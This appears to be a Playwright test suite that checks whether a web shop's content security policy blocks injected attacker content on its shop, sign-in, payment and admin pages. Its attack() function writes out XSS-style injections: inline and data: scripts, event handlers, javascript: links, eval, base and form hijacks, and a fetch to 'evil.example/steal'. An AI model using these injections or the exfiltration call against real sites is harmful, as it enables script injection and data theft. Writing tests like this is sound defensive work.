import type { BrowserContext, Page, Response } from '@playwright/test';
import { pageAddresses } from './ask';
import { expect, test } from './fixture';
import { Member } from './member';
import { BASE_URL } from './shopper';
import { openCart, signedIn } from './steps';

type Blocked = { directive: string; what: string };
declare global {
  interface Window {
    blocked: Blocked[];
    ran: string[];
  }
}

const EVIL = 'https://evil.example/';

/** What an attacker would try where a page shows something of his; each is to be stopped by this directive. */
const ATTACKS = [
  'script-src-elem inline',
  'script-src-elem inline',
  'script-src-elem https://evil.example/x.js',
  'script-src-elem data',
  'script-src-attr inline',
  'script-src-elem inline',
  'script-src eval',
  'base-uri https://evil.example/',
  'object-src data',
  'form-action https://evil.example/form?',
  'connect-src https://evil.example/steal',
  'img-src https://evil.example/x.png',
  'frame-src ',
].sort();

const watch = (context: BrowserContext) =>
  context.addInitScript(() => {
    window.blocked = [];
    window.ran = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.blocked.push({ directive: effectiveDirective, what: blockedURI });
    });
  });

const blockedIn = async (page: Page): Promise<string[]> =>
  (await page.evaluate(() => window.blocked)).map(({ directive, what }) => `${directive} ${what}`).sort();

function attack(): void {
  const add = (name: string, fields: Record<string, string>) => {
    const element = Object.assign(document.createElement(name), fields);
    document.body.append(element);
    return element;
  };
  add('script', { textContent: 'window.ran.push("inline script")' });
  add('script', { textContent: 'window.ran.push("guessed nonce")', nonce: 'AAAAAAAAAAAAAAAAAAAAAA==' });
  add('script', { src: 'https://evil.example/x.js' });
  add('script', { src: 'data:text/javascript,window.ran.push("data")' });
  add('div', { innerHTML: '<img alt="" src="data:," onerror="window.ran.push(\'event handler\')">' });
  const link = add('a', { href: 'javascript:window.ran.push("link")' });
  link.click();
  // Later, because the tool that calls this may use what the page may not.
  setTimeout(() => {
    try {
      new Function('window.ran.push("eval")')();
    } catch {
      // Refused, as it should be.
    }
  });
  document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
  add('object', { data: 'data:text/html,<script>parent.ran.push("object")</script>' });
  const form = add('form', { action: 'https://evil.example/form' });
  if (form instanceof HTMLFormElement) form.submit();
  void fetch('https://evil.example/steal').catch(() => undefined);
  add('img', { alt: '', src: 'https://evil.example/x.png' });
  add('iframe', { title: 'x', src: 'data:text/html,<script>parent.ran.push("frame")</script>' });
}

/** A policy without the scripts of its own page. */
const shapeOf = (answer: Response | null): string =>
  (answer?.headers()['content-security-policy'] ?? '').replace(
    /('sha256)-[^']+'( \1-[^']+')*|('nonce)-[^']+'/g,
    '$1$3',
  );

/** Opens a page: nothing of its own is stopped, everything of an attacker is, tried once on each policy. */
async function withstand(page: Page, path: string, withstood: Set<string>): Promise<void> {
  await test.step(path, async () => {
    const known = page.waitForResponse(/\/api\/auth\/check-auth/);
    const policy = shapeOf(await page.goto(path));
    await known;
    await expect(page.getByRole('heading', { level: 1 }).filter({ visible: true })).toHaveCount(1);
    expect(await blockedIn(page), `${path}: of its own`).toEqual([]);
    expect(policy, path).toContain('script-src');
    if (!withstood.has(policy)) await holds(page, path);
    withstood.add(policy);
  });
}

async function holds(page: Page, label: string): Promise<void> {
  expect(await blockedIn(page), `${label}: of its own`).toEqual([]);
  await page.evaluate(attack);
  await expect.poll(() => blockedIn(page), { message: label }).toEqual(ATTACKS);
  expect(await page.evaluate(() => window.ran), label).toEqual([]);
}

const of = (area: RegExp) => pageAddresses().filter((path) => area.test(path));

test.describe('case 67: the content security policy holds', { tag: '@desktop' }, () => {
  test.describe.configure({ timeout: 120_000 });
  let outcomes: string[] = [];
  let withstood = new Set<string>();

  test.afterEach(() => {
    expect([...new Set(outcomes)], 'requests to a foreign address').toEqual(['csp']);
  });

  test.beforeEach(async ({ context, expectError }) => {
    outcomes = [];
    withstood = new Set();
    expectError(/Content Security Policy/);
    // The browser speaks of such a request, and does not make it.
    expectError(/^foreign request: https:\/\/evil\.example\/x\.(js|png)$/);
    context.on('requestfailed', (request) => {
      if (request.url().startsWith(EVIL)) outcomes.push(request.failure()?.errorText ?? '');
    });
    context.on('requestfinished', (request) => {
      if (request.url().startsWith(EVIL)) outcomes.push('answered');
    });
    await watch(context);
  });

  test('on the pages of the shop', async ({ page, expectError }) => {
    expectError(/404/);
    // The own orders of somebody who is not signed in.
    expectError(/401 .*\/api\/shop\/orders/);
    for (const path of [...of(/^\/(shop|offline|track)/), '/', '/nothing']) await withstand(page, path, withstood);
  });

  test('on the pages of signing in', async ({ page }) => {
    for (const path of of(/^\/auth/)) await withstand(page, path, withstood);
  });

  test('on the pages of paying', async ({ page }) => {
    for (const path of of(/^\/payment-(success|failed)/)) await withstand(page, path, withstood);
    await page.route('**/api/payment/status/**', (route) =>
      route.fulfill({ json: { success: true, data: { state: 'PENDING' } } }),
    );
    await withstand(page, '/payment-callback?orderId=abcdefghijklmnopqrstuvwx', withstood);
  });

  test('on the pages of the admin', async ({ page, context }) => {
    const { cookies } = await Member.createAdmin();
    await context.addCookies([...cookies].map(([name, value]) => ({ name, value, url: BASE_URL })));
    for (const path of of(/^\/admin/)) await withstand(page, path, withstood);
  });

  test('with the cart open', async ({ page, context, phone }) => {
    await signedIn(context, phone);
    await openCart(page);
    await holds(page, 'the cart');
  });
});

test('case 67 is tried on every page', { tag: '@desktop' }, () => {
  const tested = [/^\/(shop|offline|track)/, /^\/auth/, /^\/payment-/, /^\/admin/, /^\/$/];
  expect(pageAddresses().filter((path) => !tested.some((area) => area.test(path)))).toEqual([]);
});
